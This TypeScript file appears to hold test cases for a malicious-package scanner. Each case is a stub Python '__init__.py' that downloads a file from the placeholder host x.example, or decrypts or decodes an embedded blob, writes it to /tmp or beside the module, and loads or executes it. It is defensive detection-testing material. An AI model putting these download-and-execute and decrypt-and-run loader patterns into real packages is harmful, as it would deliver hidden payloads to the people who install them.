import type { Case } from './pack-of.ts'

const pack = (rule: string, name: string, ...lines: string[]): Case => ({
  name: `written: ${name}`,
  rule,
  files: {
    '__init__.py': `import base64, ctypes, importlib.util, marshal, os, requests, subprocess, sys
from cryptography.fernet import Fernet
here = os.path.dirname(__file__)
u, x, k = "https://x.example", f(), g()
${lines.join('\n')}
`,
  },
})

/** Code that is fetched, decoded or decrypted into a file, and loaded or started from there. */
export const writtenCode: Case[] = [
  pack(
    'code-from-data',
    'a decrypted module',
    'open(os.path.join(here, "core.py"), "wb").write(Fernet(k).decrypt(x))',
    'from . import core',
  ),
  pack(
    'code-from-data',
    'a decoded module',
    'with open(here + "/core.pyc", "wb") as f:',
    '    f.write(base64.b85decode(x))',
  ),
  pack(
    'code-from-data',
    'a decrypted module without an ending, by a loader',
    'def go():',
    '    open("/tmp/m", "wb").write(Fernet(k).decrypt(x))',
    '    importlib.util.spec_from_file_location("m", "/tmp/m")',
  ),
  pack(
    'code-from-data',
    'a decrypted library',
    'open("/tmp/lib", "wb").write(Fernet(k).decrypt(x))',
    'ctypes.CDLL("/tmp/lib")',
  ),
  pack(
    'code-download',
    'a downloaded library',
    'open("/tmp/lib", "wb").write(requests.get(u).content)',
    'ctypes.cdll.LoadLibrary("/tmp/lib")',
  ),
  pack(
    'code-download',
    'a downloaded program',
    'open("/tmp/z", "wb").write(requests.get(u).content)',
    'subprocess.Popen(["/tmp/z"])',
  ),
  pack(
    'code-download',
    'a downloaded script',
    'open("/tmp/z", "wb").write(requests.get(u).content)',
    'os.system("nohup bash /tmp/z &")',
  ),
  pack(
    'code-from-data',
    'a decoded program',
    'open("/tmp/z", "wb").write(base64.b64decode(x))',
    'os.execv("/tmp/z", ["z"])',
  ),
  pack(
    'code-from-data',
    'a decrypted script',
    'open("/tmp/z", "wb").write(Fernet(k).decrypt(x))',
    'subprocess.run([sys.executable, "-u", "/tmp/z"])',
  ),
]
